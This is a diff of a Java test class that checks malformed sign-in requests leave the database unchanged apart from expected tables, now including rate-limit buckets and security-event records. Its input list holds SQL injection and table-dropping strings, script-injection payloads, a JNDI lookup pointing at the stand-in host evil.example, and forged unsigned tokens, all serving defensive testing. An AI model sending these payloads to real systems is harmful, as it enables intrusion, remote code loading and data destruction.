@@ -54,7 +54,7 @@ class MalformedRequestsTest {
             "wrong-password", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer", "none", "consent",
             "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.", "eyJ0eXAiOiJKV1QifQ.e30.c2ln");
     private static final Set<String> EXPECTED_TO_CHANGE = Set.of("login_failure", "spring_session",
-            "spring_session_attributes");
+            "spring_session_attributes", "rate_limit_bucket", "security_event");
 
     private static final List<String> NASTY = List.of("' OR '1'='1", "'; DROP TABLE users; --", "\" OR \"\"=\"",
             "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}",
@@ -206,8 +206,9 @@ class MalformedRequestsTest {
     }
 
     /**
-     * Every row of every table, except the failed sign-in counts the suite is expected to add and the browser
-     * sessions its page requests open (sessions live in the database, Spring Session JDBC).
+     * Every row of every table, except what the suite is expected to add: failed sign-in counts, the browser
+     * sessions its page requests open (sessions live in the database, Spring Session JDBC), the rate-limit buckets
+     * its requests use up and the audit trail's record of its failed sign-ins.
      */
     private Map<String, List<String>> snapshot() {
         Map<String, List<String>> tables = new TreeMap<>();
